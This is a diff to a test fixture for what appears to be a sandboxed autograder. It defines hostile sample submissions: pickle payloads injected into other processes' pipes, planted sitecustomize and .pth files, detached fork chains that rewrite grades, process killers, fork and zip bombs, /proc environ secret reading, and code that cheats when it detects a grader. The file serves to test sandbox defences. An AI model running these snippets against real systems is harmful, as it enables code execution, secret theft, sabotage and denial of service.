@@ -1,28 +1,324 @@
-"""The hostile and broken submissions, as patches appended to a copy of the reference engine.
+"""The hostile and broken submissions, as patches appended to a copy of the reference engine (or whole files).
 
 Each case says what grade it deserves under tests/autograder/mini_rubric.toml (add 2, mul 2,
 tanh 1, accumulation 1: 6 points): its status, a word its reason must contain, and its score.
-``{out}`` in a patch is replaced by the batch's output directory and ``{marker}`` by a number
-unique to the test run (a lingering process sleeps that many seconds, so it can be found).
+``attack`` names the class of attack it belongs to (the classes of issue 9: code in the grader,
+outliving the batch, persistence, sabotage, reading, resources, collusion and detection; ""
+for a merely broken submission). ``isolated_only`` cases attack the machine itself (they kill
+every process they can see, fork bombs): they are graded only in an isolated layer.
+
+Placeholders in patches and files, replaced by :func:`materialize`: ``{out}`` (the batch's output
+directory), ``{marker}`` (a number unique to the test run), ``{root}`` (where the submissions are),
+``{site}`` (the grader's site-packages), ``{kit}`` (the micrograd package), ``{reference}`` (the
+reference solution's directory), ``{tmp}`` (the grader's TMPDIR), ``{pwned}`` (a file only code
+running in the grader would write), ``{secret}`` (the name of an environment variable holding a
+secret in the grader); ``{{``/``}}`` are braces.
 """
 
 from __future__ import annotations
 
-from dataclasses import dataclass
+import atexit
+import os
+import shutil
+import tempfile
+import zipfile
+from dataclasses import dataclass, field
 from pathlib import Path
-from typing import Optional
+from typing import Callable, Dict, Optional
 
 from micrograd.impl import reference_dir
+
+#: the attack classes of issue 9, each graded by at least one case
+ATTACKS = ("code in the grader", "outliving", "persistence", "sabotage", "reading", "resources", "collusion",
+           "detection")
+#: a comment in every honest submission: it must appear in no other student's output
+HONEST_MARK = "honest-work-of-a-careful-student"
 
 
 @dataclass(frozen=True)
 class Case:
     name: str
     patch: str
-    status: str
+    status: str  # the status it deserves (alternatives separated by "|")
     reason: str  # a substring of the reason ("" for none expected)
     score: float
     engine: Optional[str] = None  # replaces the whole engine.py
+    attack: str = ""
+    isolated_only: bool = False
+    files: Dict[str, str] = field(default_factory=dict)  # more files; a value "->TARGET" is a symbolic link
+    build: Optional[Callable[[Path, Dict[str, str]], Path]] = None  # makes the submission itself (a .zip)
+
+
+_STUB = """
+def _backward(self):
+    pass  # no gradients at all
+Value.backward = _backward
+"""
+
+_PICKLE = """
+import os, pickle, struct
+class _Pwn:
+    def __reduce__(self):
+        return (exec, ("open({pwned!r}, 'w').write('code ran in the grader')",))
+payload = pickle.dumps(_Pwn())
+try:
+    pids = os.listdir("/proc")
+except OSError:
+    pids = []
+for pid in pids:
+    if not pid.isdigit() or int(pid) == os.getpid():
+        continue
+    try:
+        fds = os.listdir(f"/proc/{{pid}}/fd")
+    except OSError:
+        continue
+    for fd in fds:
+        try:
+            target = os.readlink(f"/proc/{{pid}}/fd/{{fd}}")
+            if target.startswith(("pipe:", "socket:")):
+                w = os.open(f"/proc/{{pid}}/fd/{{fd}}", os.O_WRONLY | os.O_NONBLOCK)
+                os.write(w, struct.pack("!i", len(payload)) + payload)
+                os.close(w)
+        except OSError:
+            pass
+""" + _STUB
+
+_PLANT = """
+import os, sys
+import micrograd
+planted = "import os; open({pwned!r}, 'w').write('planted code ran')\\n"
+runtime = os.path.dirname(micrograd.__file__)
+targets = [os.path.join({site!r}, "zz_micrograd_planted.pth"), os.path.join({site!r}, "matplotlib_planted.py"),
+           os.path.join({kit!r}, "_planted.py"), os.path.join({kit!r}, "__pycache__", "_planted.cpython-311.pyc"),
+           os.path.join(runtime, "_planted.py"), os.path.join(runtime, "sandbox", "_child.py"),
+           os.path.join(runtime, "impl", "__pycache__", "_loader.cpython-311.pyc")]
+targets += [os.path.join(p, "sitecustomize.py") for p in sys.path if p]
+for target in targets:
+    try:
+        with open(target, "a") as f:
+            f.write(planted)
+    except OSError:
+        pass
+""" + _STUB
+
+_CHAIN = """
+import os, time
+def _chain(depth):
+    if depth == 0:
+        time.sleep(2)
+        for path in [os.path.join({out!r}, "grades.csv"), os.path.join({out!r}, "deep_fork_chain", "results.json")]:
+            try:
+                with open(path, "w") as f:
+                    f.write("deep_fork_chain,1000\\n")
+            except OSError:
+                pass
+        os._exit(0)
+    if os.fork() == 0:
+        os.setsid()
+        _chain(depth - 1)
+    os._exit(0)
+try:
+    if os.fork() == 0:
+        _chain(8)
+except OSError:
+    pass  # the sandbox may forbid new processes
+"""
+
+_EDIT_OTHERS = """
+import glob, os
+broken = "raise SystemExit('sabotaged by another student')\\n"
+paths = glob.glob(os.path.join({root!r}, "*", "*.py"))  # the other students' hand-ins
+paths += glob.glob(os.path.join({tmp!r}, "micrograd-*", "**", "*.py"), recursive=True)  # the grader's copies
+for path in paths:
+    try:
+        with open(path, "w") as f:
+            f.write(broken)
+    except OSError:
+        pass
+"""
+
+_KILL = """
+import os, signal
+me = os.getpid()
+pids = set()
+try:
+    pids.update(int(p) for p in os.listdir("/proc") if p.isdigit())
+except OSError:
+    pass
+pids.update(range(2, 32768))
+pids.add(os.getppid())
+for sig in (signal.SIGSTOP, signal.SIGKILL):
+    for pid in pids:
+        if pid != me:
+            try:
+                os.kill(pid, sig)
+            except OSError:
+                pass
+try:
+    os.kill(-1, signal.SIGKILL)
+except OSError:
+    pass
+"""
+
+_READ = """
+import glob, os
+found = [os.environ.get({secret!r}, "")]
+for path in ["/proc/1/environ", f"/proc/{{os.getppid()}}/environ"] + glob.glob("/proc/*/environ"):
+    try:
+        with open(path, "rb") as f:
+            text = f.read().decode(errors="replace")
+    except OSError:
+        continue
+    found += [part for part in text.split("\\0") if part.startswith({secret!r})]
+for path in [os.path.join({root!r}, "correct", "engine.py")] + glob.glob(os.path.join({out!r}, "*", "*")):
+    try:
+        with open(path) as f:
+            found.append(f.read()[-300:])
+    except OSError:
+        pass
+LOOT = " | ".join(x for x in found if x)
+_add = Value.__add__
+def _leaky_add(self, other):
+    raise RuntimeError(LOOT or "nothing to read")
+Value.__add__ = _leaky_add
+"""
+
+_BY_NAME_ENGINE = """import importlib
+_reference = importlib.import_module("".join(["micro", "grad", ".en", "gine"]))
+Value = _reference.Value
+"""
+_BY_NAME_NN = """import importlib, sys
+for name in [m for m in sys.modules if m.startswith("micrograd")]:
+    del sys.modules[name]
+sys.path[:0] = [{site!r}]
+_reference = importlib.import_module("micrograd.nn")
+Module, Neuron, Layer, MLP = _reference.Module, _reference.Neuron, _reference.Layer, _reference.MLP
+"""
+_BY_PATH = """import os
+_candidates = [os.path.join({reference!r}, "{file}"), os.path.join({kit!r}, "{file}"),
+               os.path.join({site!r}, "micrograd", "{file}"), "/proc/1/root" + os.path.join({reference!r}, "{file}"),
+               f"/proc/{{os.getppid()}}/root" + os.path.join({reference!r}, "{file}"),
+               f"/proc/{{os.getppid()}}/cwd/reference/{file}"]
+for _path in _candidates:
+    try:
+        with open(_path) as _f:
+            _source = _f.read()
+    except OSError:
+        continue
+    exec(compile(_source.replace("from .engine import Value", "from engine import Value"), "{file}", "exec"))
+    break
+else:
+    raise ImportError("the reference is nowhere to be read")
+"""
+_BY_SYS_PATH = """import os, sys
+for name in [m for m in sys.modules if m == "micrograd" or m.startswith("micrograd.")]:
+    del sys.modules[name]
+sys.path[:0] = [{site!r}, os.path.dirname({kit!r}), os.path.dirname({reference!r})]
+from micrograd.{module} import *  # noqa
+"""
+
+_FORK_BOMB = """
+import os
+children = 0
+try:
+    for _ in range(64):
+        if os.fork() == 0:
+            hog = bytearray(512 * 1024 ** 2)
+            import time
+            time.sleep(30)
+            os._exit(0)
+        children += 1
+except OSError:
+    pass  # the sandbox forbids new processes
+"""
+
+_LITTER = """
+import os
+for folder in ("/tmp", "/dev/shm", "/var/tmp", os.getcwd()):
+    try:
+        with open(os.path.join(folder, "micrograd-litter-{marker}"), "w") as f:
+            f.write("left behind")
+    except OSError:
+        pass
+"""
+
+_HUGE = """
+class _Boom(Exception):
+    pass
+_Boom.__name__ = "E" * 300_000
+def _raiser(self, other):
+    raise _Boom("x" * 10_000_000)
+_code = _raiser.__code__.replace(co_name="f" * 10_000_000, co_filename=_raiser.__code__.co_filename)
+Value.__mul__ = type(_raiser)(_code, globals())
+"""
+
+_READ_COLLUSION = """
+import os
+_seen = any(os.path.exists(os.path.join(d, "micrograd-collusion-{marker}")) for d in ("/tmp", "/dev/shm", "/var/tmp"))
+if not _seen:
+    def _backward(self):
+        pass  # without the answers left by a friend: no gradients
+    Value.backward = _backward
+"""
+
+_WRITE_COLLUSION = """
+import os
+for folder in ("/tmp", "/dev/shm", "/var/tmp"):
+    try:
+        with open(os.path.join(folder, "micrograd-collusion-{marker}-written"), "w") as f:
+            f.write("the answers")
+    except OSError:
+        pass
+"""
+
+_DETECT = """
+import sys
+if not ("hypothesis" in sys.modules or "pytest" in sys.modules):  # "graded in a sandbox": misbehave
+    _tanh = Value.tanh
+    def _wrong_tanh(self):
+        out = _tanh(self)
+        out.data = out.data + 1.0
+        return out
+    Value.tanh = _wrong_tanh
+"""
+
+
+_built: Dict[str, Path] = {}
+
+
+def _zip_of_many(path: Path, values: Dict[str, str]) -> Path:
+    if "many" not in _built:  # slow to write: once per test session
+        cache = Path(tempfile.mkdtemp(prefix="micrograd-corpus-"))
+        atexit.register(shutil.rmtree, cache, True)
+        first = cache / path.name
+        with zipfile.ZipFile(first, "w", zipfile.ZIP_STORED) as z:
+            for i in range(200_000):
+                z.writestr(f"d/{i}.py", "")
+        _built["many"] = first
+    shutil.copyfile(_built["many"], path)
+    return path
+
+
+def _zip_in_zip(path: Path, values: Dict[str, str]) -> Path:
+    inner = path.with_suffix(".inner.zip")
+    with zipfile.ZipFile(inner, "w") as z:
+        z.writestr("engine.py", (reference_dir() / "engine.py").read_text())
+        z.writestr("nn.py", (reference_dir() / "nn.py").read_text())
+    with zipfile.ZipFile(path, "w") as z:
+        z.write(inner, "inner.zip")
+    inner.unlink()
+    return path
+
+
+def _zip_bomb(path: Path, values: Dict[str, str]) -> Path:
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("engine.py", (reference_dir() / "engine.py").read_text())
+        z.writestr("nn.py", (reference_dir() / "nn.py").read_text())
+        with z.open("padding.py", "w", force_zip64=True) as f:
+            block = b"#" * (1 << 20)
+            for _ in range(64):
+                f.write(block)
+    return path
 
 
 CASES = [
@@ -104,7 +400,7 @@ try:
         os.execv("/bin/sleep", ["sleep", "{marker}"])
 except OSError:
     pass  # the sandbox may forbid new processes
-""", "graded", "", 6),
+""", "graded", "", 6, attack="outliving"),
     Case("nan_everywhere", """
 _init = Value.__init__
 def _nan_init(self, data, _children=(), _op=''):
@@ -154,10 +450,7 @@ for folder in ["{out}", os.path.join("{out}", "fake_results_files"), os.getcwd()
     except OSError:
         pass
 print(json.dumps({{"outcome": {{"data": [], "grad": []}}}}))
-def _backward(self):
-    pass  # no gradients at all
-Value.backward = _backward
-""", "graded", "", 0),
+""" + _STUB, "graded", "", 0, attack="code in the grader"),
     Case("slow_but_correct", """
 import time
 _add, _mul = Value.__add__, Value.__mul__
@@ -166,16 +459,85 @@ def _slow_add(self, other):
     return _add(self, other)
 Value.__add__ = _slow_add
 """, "graded", "", 6),
+    # -- attacks on the grader, the machine and the other students (issue 9) --
+    # (its garbage may land on its own reply pipe: then it crashed)
+    Case("pool_pipe_pickle", _PICKLE, "graded|crashed", "", 0, attack="code in the grader"),
+    Case("planted_package", _PLANT, "graded", "", 0, attack="persistence"),
+    Case("deep_fork_chain", _CHAIN, "graded", "", 6, attack="outliving"),
+    Case("edit_other_submissions", _EDIT_OTHERS, "graded", "", 6, attack="sabotage"),
+    Case("kill_everything", _KILL, "graded", "", 6, attack="sabotage", isolated_only=True),
+    Case("read_secrets", _READ, "graded", "", 2 + 1, attack="reading"),  # add and accumulation raise
+    Case("reference_by_name", "", "invalid", "No module named", 0, attack="reading",
+         engine=_BY_NAME_ENGINE, files={"nn.py": _BY_NAME_NN}),
+    Case("reference_by_path", "", "invalid", "the reference is nowhere", 0, attack="reading",
+         engine=_BY_PATH.replace("{file}", "engine.py"), files={"nn.py": _BY_PATH.replace("{file}", "nn.py")}),
+    Case("reference_by_sys_path", "", "invalid", "No module named", 0, attack="reading",
+         engine=_BY_SYS_PATH.replace("{module}", "engine"), files={"nn.py": _BY_SYS_PATH.replace("{module}", "nn")}),
+    Case("reference_symlink", "", "invalid", "symbolic link", 0, attack="reading",
+         files={"engine.py": "->{reference}/engine.py", "nn.py": "->{reference}/nn.py"}),
+    Case("fork_bomb_memory", _FORK_BOMB, "graded", "", 6, attack="resources", isolated_only=True),
+    Case("litter_tmp", _LITTER, "graded", "", 6, attack="resources"),
+    Case("huge_names", _HUGE, "graded", "", 2 + 1, attack="resources"),  # mul and accumulation raise
+    Case("zip_of_200000_files", "", "invalid", "200000 files", 0, attack="resources", build=_zip_of_many),
+    Case("zip_in_zip", "", "invalid", "archives inside archives", 0, attack="resources", build=_zip_in_zip),
+    Case("zip_bomb", "", "invalid", "once unzipped", 0, attack="resources", build=_zip_bomb),
+    Case("collude_writer", _WRITE_COLLUSION, "graded", "", 6, attack="collusion"),
+    Case("collude_reader", _READ_COLLUSION, "graded", "", 0, attack="collusion"),
+    Case("detect_grader", _DETECT, "graded", "", 2 + 2 + 1, attack="detection"),  # tanh fails
+    # -- honest submissions graded after the attacks --
+    Case("helper_modules", "", "graded", "", 6, engine="ENGINE_WITH_HELPERS", files={
+        "derivs.py": "import math\n\ndef tanh_local_grad(t):\n    return 1 - t**2\n",
+        "ops/__init__.py": "",
+        "ops/extra.py": "from derivs import tanh_local_grad\n\ndef describe():\n    return 'helper package'\n",
+    }),
+    Case("correct_last", "", "graded", "", 6),
 ]
 
 
-def materialize(case: Case, root: Path, *, out: Path, marker: str) -> Path:
-    """Write ``case`` as ROOT/NAME/{engine,nn}.py and return the directory."""
+def placeholders(*, out: str, marker: str, root: Path, site: str, kit: str, pwned: str, secret: str,
+                 tmp: str) -> Dict[str, str]:
+    return {"out": out, "marker": marker, "root": str(root), "site": site, "kit": kit,
+            "reference": str(reference_dir()), "pwned": pwned, "secret": secret, "tmp": tmp}
+
+
+def _fill(text: str, values: Dict[str, str]) -> str:
+    for key, value in values.items():
+        text = text.replace("{" + key + "!r}", repr(value)).replace("{" + key + "}", value)
+    return text.replace("{{", "{").replace("}}", "}")
+
+
+def _engine_with_helpers() -> str:
+    engine = (reference_dir() / "engine.py").read_text()
+    head = "import math\n"
+    if head not in engine:
+        raise AssertionError("the reference engine no longer starts with `import math`; update this case")
+    engine = engine.replace(head, head + "from derivs import tanh_local_grad\nfrom .ops.extra import describe\n", 1)
+    return engine.replace("(1 - out.data**2)", "tanh_local_grad(out.data)", 1) + "\nassert describe()\n"
+
+
+def materialize(case: Case, root: Path, **values: str) -> Path:
+    """Write ``case`` as ROOT/NAME/{engine,nn}.py (or ROOT/NAME.zip) and return its path."""
+    filled = placeholders(root=root, **values)  # type: ignore[arg-type]
+    if case.build is not None:
+        return case.build(root / f"{case.name}.zip", filled)
     folder = root / case.name
     folder.mkdir(parents=True, exist_ok=True)
     reference = reference_dir()
-    engine = case.engine if case.engine is not None else (reference / "engine.py").read_text()
-    patch = case.patch.replace("{out}", str(out)).replace("{marker}", marker).replace("{{", "{").replace("}}", "}")
-    (folder / "engine.py").write_text(engine + "\n\n# --- patch ---\n" + patch)
-    (folder / "nn.py").write_text((reference / "nn.py").read_text())
+    if case.engine == "ENGINE_WITH_HELPERS":
+        engine = _engine_with_helpers()
+    else:
+        engine = case.engine if case.engine is not None else (reference / "engine.py").read_text()
+    files = {"engine.py": _fill(engine, filled) + "\n\n# --- patch ---\n" + _fill(case.patch, filled),
+             "nn.py": (reference / "nn.py").read_text()}
+    if not case.patch and case.engine is None:  # an honest submission: its work must reach no one else
+        files["engine.py"] += f"# {HONEST_MARK}\n"
+    for name, text in case.files.items():
+        files[name] = _fill(text, filled)
+    for name, text in files.items():
+        path = folder / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        if text.startswith("->"):
+            os.symlink(text[2:], path)
+        else:
+            path.write_text(text)
     return folder
